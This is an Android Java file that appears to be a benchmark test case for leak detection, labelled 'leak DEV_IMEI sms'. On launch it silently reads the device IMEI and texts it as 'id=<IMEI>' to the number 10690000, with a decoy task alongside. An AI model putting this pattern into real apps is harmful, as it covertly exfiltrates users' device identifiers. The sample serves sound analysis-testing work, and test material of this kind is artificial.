// about       What the task has worked out is asked for and sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.AsyncTask;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Join one = new Join();
    Join two = new Join();
    one.execute("id", phone.getDeviceId());
    two.execute("id", "none");
    try {
      String text = one.get();
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    } catch (Exception e) {
      finish();
    }
  }
}

class Join extends AsyncTask<String, Void, String> {
  @Override
  protected String doInBackground(String... parts) {
    return parts[0] + "=" + parts[1];
  }
}
